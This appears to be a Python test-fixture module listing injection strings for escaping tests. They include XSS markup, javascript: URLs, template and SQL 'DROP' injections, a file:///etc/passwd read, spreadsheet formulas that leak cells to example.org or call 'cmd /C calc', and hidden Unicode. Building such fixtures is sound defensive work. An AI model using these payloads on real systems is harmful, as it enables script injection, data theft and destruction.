"""Texts that try to run, to break out, or to break what reads them; `window.ran` tells if one did."""

from typing import Final

LONG: Final = "长" * 4_000 + "<b>" + "x" * 5_997

PAYLOADS: Final[dict[str, str]] = {
    # Markup and scripts
    "script": "<script>window.ran=1</script>",
    "script-end": "</script><script>window.ran=1</script>",
    "style-end": "</style><style>*{display:none}</style>",
    "textarea-end": "</textarea></title></noscript><img src=x onerror=window.ran=1>",
    "comment-open": "<!--<script>",
    "comment-close": "--><script>window.ran=1</script>",
    "cdata": "]]><script>window.ran=1</script><![CDATA[",
    "entity": "&lt;script&gt;window.ran=1&lt;/script&gt;&#x3c;b&#x3e;&amp;",
    "image": '<img src=x onerror="window.ran=1">',
    "image-quoted": "\"><img src='https://example.org/x.png' onerror='window.ran=1'>",
    "attribute": '" autofocus onfocus="window.ran=1" x="',
    "attribute-single": "' onmouseover='window.ran=1' y='",
    "svg": "<svg onload=window.ran=1><script>window.ran=1</script></svg>",
    "svg-animate": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>",
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.ran=1'/>#x\"/></svg>",
    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "iframe": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "object": "<object data='javascript:window.ran=1'></object><embed src=x>",
    "details": "<details open ontoggle=window.ran=1>",
    "meta": "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "base": "<base href='https://example.org/'><link rel=stylesheet href=x>",
    "form": "<form action='https://example.org/'><button formaction=javascript:window.ran=1>x",
    "template-element": "<template shadowrootmode=open><slot onslotchange=window.ran=1></slot></template>",
    # Addresses
    "javascript": "javascript:window.ran=1",
    "javascript-hidden": "JaVa\tScript\n:window.ran=1//https://example.org",
    "javascript-encoded": "javascript&colon;window.ran=1",
    "data": "data:text/html,<script>window.ran=1</script>",
    "vbscript": "vbscript:window.ran=1",
    "scheme-relative": "//example.org/x.js",
    "url": 'https://example.org/"onmouseover="window.ran=1',
    "file": "file:///etc/passwd",
    # Templates, scripts, styles, queries, formulas
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}{# x #}",
    "template-literal": "${window.ran=1}`+(window.ran=1)+`",
    "angular": "{{constructor.constructor('window.ran=1')()}}",
    "erb": "<%= window.ran=1 %><?php echo 1; ?>#{7*7}*{7*7}@(7*7)",
    "format": "{} {0} %s %(x)s $& $1 $` \\1",
    "string-end": "\\\"';window.ran=1;//'\u2028\u2029",
    "regular-expression": "(a+)+$[\\",
    "css": "red;}*{background:url(https://example.org/x)}",
    "css-url": "url(https://example.org/x#a)",
    "css-variable": 'var(--ink, url("https://example.org/x"))',
    "sparql": '" . } ; DROP ALL ; INSERT DATA { <a:> <b:> <c:> } #',
    "sparql-iri": "> <p:> <o:> } # \\u003E",
    "sql": "'); DROP TABLE names; --",
    "formula": '=HYPERLINK("https://example.org/?"&A1,"x")',
    "formula-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd",
    # Names that objects of JavaScript have, and what stands for nothing
    "proto": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "has-own": "hasOwnProperty",
    "prototype-path": "__proto__.polluted",
    "null": "null",
    "undefined": "undefined",
    "object-text": "[object Object]",
    "not-a-number": "NaN",
    "infinity": "-Infinity",
    "empty-array": "[]",
    # Signs that take room, or none
    "lines": "one\ttwo\nthree\r\nfour",
    "combining": "a" + "\u0301" * 300,
    "arabic": "العربية ١٢٣ עברית",
    "spaces": "a\u3000\u00a0\u2009b",
    "long": LONG,
    "unbroken": "W" * 3_000,
}
"""By a name; tests go through all of them."""

HIDDEN: Final[dict[str, str]] = {
    "right-to-left": "\u202e gnirts a fo dne\u202c",
    "isolate": "\u2066\u2067\u2068 never closed",
    "zero-width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "no-characters": "a\ufffe\uffff\U0001fffeb",
    "c1": "a\x80\x85\x9bb",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f4",
    "unassigned": "\U0002ffff\ue000\U000f0000",
}
"""Signs that a reader does not see, or that turn what stands around them: no table lets them through, links may."""

EVERY: Final = PAYLOADS | HIDDEN

CELLS: Final = (
    *("=1+1", "+cmd", "-x", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋cmd", "－x", "＠SUM(A1)", "'=1", "''@x", "'-5"),
    *("-12.5", "+3", "-٣", "-1e3", "-5\n", "'", "'x", "plain", 'a "b", c\nd'),
)
"""What a spreadsheet would run, and what is near to it."""

CONTROLS: Final[dict[str, str]] = {"nul": "a\0b", "escape": "a\x1b[31mb", "backspace": "a\x08b", "delete": "a\x7fb"}
"""What no table lets through, and the page bears all the same."""
